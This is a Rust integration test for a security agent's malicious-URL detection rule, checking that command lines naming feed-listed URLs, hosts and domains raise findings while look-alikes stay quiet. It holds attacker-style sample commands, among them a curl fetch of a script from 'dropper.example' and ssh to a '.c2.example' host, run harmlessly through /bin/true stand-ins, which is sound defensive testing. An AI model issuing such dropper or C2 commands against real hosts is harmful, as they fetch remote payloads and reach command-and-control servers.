//! End to end, the URL rule (*Malicious URL Observed*, `rules/urls.toml`): the real
//! `ward agent` (real eBPF) started with `--url-feed` on a feed this test writes, against real
//! podman containers, following `agent_rules_e2e2.rs`.
//!
//! Harmless stand-ins only: `wget`, `curl` and `ssh` are copies of `/bin/true` in `/tmp/t` of
//! a throwaway container, so nothing connects anywhere; the listed URL is on 127.0.0.1, on a
//! port this test holds open, and the listed names are under `.example` (RFC 2606). The
//! benign look-alikes are made deterministic by the compiler sentinel (`rules_common`).
//!
//! Needs root and podman (`ward_testkit::require_containers!` skips otherwise).

use serde_json::Value;
use std::net::TcpListener;
use std::path::Path;
use std::sync::OnceLock;
use ward_testkit::agent::{AgentOptions, WardAgent};
use ward_testkit::{require_containers, Container, Images, Network};

mod rules_common;
use rules_common::*;

const RULE: &str = "MALICIOUS_URL_OBSERVED";

struct UrlAgent {
    agent: WardAgent,
    /// The port of the listed URL (held open by `_listener`, so nothing else has it).
    port: u16,
    _listener: TcpListener,
    _dir: tempfile::TempDir,
}

/// One agent for this file, with the default configuration and a URL feed listing
/// `http://127.0.0.1:PORT/x` (written unnormalised), the host `dropper.example` and the domain
/// `*.c2.example`.
fn url_agent(images: &Images) -> &'static UrlAgent {
    static AGENT: OnceLock<UrlAgent> = OnceLock::new();
    AGENT.get_or_init(|| {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let dir = tempfile::tempdir().unwrap();
        let feed = dir.path().join("urls.txt");
        std::fs::write(
            &feed,
            format!(
                "# test URL feed\nHTTP://127.0.0.1:{port}/x   # Ward.Test.Loader\ndropper.example\n*.c2.example\n"
            ),
        )
        .unwrap();
        let opts = AgentOptions {
            feeds: vec![images.intel_feed.clone()],
            url_feeds: vec![feed],
            toml: format!("docker_sockets = [\"{}\"]", podman_api().display()),
            agent_keys: true,
            health_log_interval: "5s".into(),
            ..AgentOptions::default()
        };
        let agent = WardAgent::start(Path::new(env!("CARGO_BIN_EXE_ward")), &opts)
            .unwrap_or_else(|e| panic!("{e}"));
        UrlAgent {
            agent,
            port,
            _listener: listener,
            _dir: dir,
        }
    })
}

fn debian(images: &Images, prefix: &str) -> Container {
    let c = Container::builder(&images.debian)
        .name_prefix(prefix)
        .network(Network::Host)
        .run(&["sleep", "600"])
        .unwrap();
    c.exec_ok(&["mkdir", "-p", "/tmp/t"]).unwrap();
    c
}

/// `/bin/true` copied to `/tmp/t/<name>` inside `c`.
fn stand_in(c: &Container, name: &str) -> String {
    let path = format!("/tmp/t/{name}");
    c.exec_ok(&["cp", "/bin/true", &path]).unwrap();
    path
}

fn evidence(f: &Value) -> Vec<(String, String)> {
    f["sourceProperties"]["Evidence"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|e| {
            (
                e["field"].as_str().unwrap_or("").to_string(),
                e["value"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

#[test]
fn a_listed_url_host_or_domain_in_a_command_line_is_reported() {
    let images = require_containers!();
    let ua = url_agent(&images);
    let agent = &ua.agent;
    let c = debian(&images, "rules-url");
    let wget = stand_in(&c, "wget");
    let curl = stand_in(&c, "curl");
    let ssh = stand_in(&c, "ssh");

    // The listed URL as the feed normalises it (scheme case, default port).
    let url = format!("http://127.0.0.1:{}/x", ua.port);
    let argv = [wget.as_str(), "-q", url.as_str(), "-O", "/tmp/x"];
    c.exec_ok(&argv).unwrap();
    let f = wait_rule(agent, c.id(), RULE, |f| args(f) == argv);
    assert_eq!(f["category"], "Malicious URL Observed", "{f:#}");
    assert_eq!(f["severity"], "MEDIUM");
    assert_eq!(f["sourceProperties"]["Detector"], "rules");
    assert_eq!(f["containers"][0]["name"], c.name(), "{f:#}");
    assert_eq!(
        evidence(&f),
        [
            ("argv.url".to_string(), url.clone()),
            (
                "url_feed".to_string(),
                format!("urls.txt: url {url} (Ward.Test.Loader)")
            )
        ]
    );

    // A URL on a listed host, written with another case, a trailing dot and the default
    // port, inside a shell's -c string.
    let script = format!("{curl} -fsS https://Dropper.Example.:443/a.sh -o /dev/null");
    c.exec_ok(&["sh", "-c", &script]).unwrap();
    let f = wait_rule(agent, c.id(), RULE, |f| {
        args(f) == ["sh", "-c", script.as_str()]
    });
    assert_eq!(
        evidence(&f),
        [
            (
                "argv.url".to_string(),
                "https://Dropper.Example.:443/a.sh".to_string()
            ),
            (
                "url_feed".to_string(),
                "urls.txt: host dropper.example".to_string()
            )
        ]
    );

    // A name under a listed domain, named alone.
    let argv = [ssh.as_str(), "-p", "2222", "root@node7.c2.example"];
    c.exec_ok(&argv).unwrap();
    let f = wait_rule(agent, c.id(), RULE, |f| args(f) == argv);
    assert_eq!(
        evidence(&f),
        [
            ("argv.host".to_string(), "node7.c2.example".to_string()),
            (
                "url_feed".to_string(),
                "urls.txt: domain *.c2.example".to_string()
            )
        ]
    );
}

#[test]
fn unlisted_urls_and_look_alikes_stay_quiet() {
    let images = require_containers!();
    let ua = url_agent(&images);
    let agent = &ua.agent;
    let c = debian(&images, "rules-url-benign");
    let wget = stand_in(&c, "wget");
    let curl = stand_in(&c, "curl");
    let ssh = stand_in(&c, "ssh");
    let other = format!("http://127.0.0.1:{}/y", ua.port);
    let other_port = format!("http://127.0.0.1:{}/x", ua.port.wrapping_add(1).max(1));
    for argv in [
        // Another path, another port of the listed URL.
        vec![wget.as_str(), "-q", other.as_str()],
        vec![wget.as_str(), "-q", other_port.as_str()],
        // Names that only end like the listed domain or contain the listed host.
        vec![curl.as_str(), "-s", "https://notc2.example/"],
        vec![ssh.as_str(), "git@dropper.example.org"],
        // File names that look like host names.
        vec![
            "tar",
            "czf",
            "/tmp/release.tar.gz",
            "-C",
            "/etc",
            "hostname",
        ],
    ] {
        c.exec_ok(&argv).unwrap();
    }
    let rest = after_sentinel(agent, &c);
    let url: Vec<&Value> = rest
        .iter()
        .filter(|f| f["sourceProperties"]["Rule_Id"] == RULE)
        .collect();
    assert!(url.is_empty(), "{url:#?}");
}
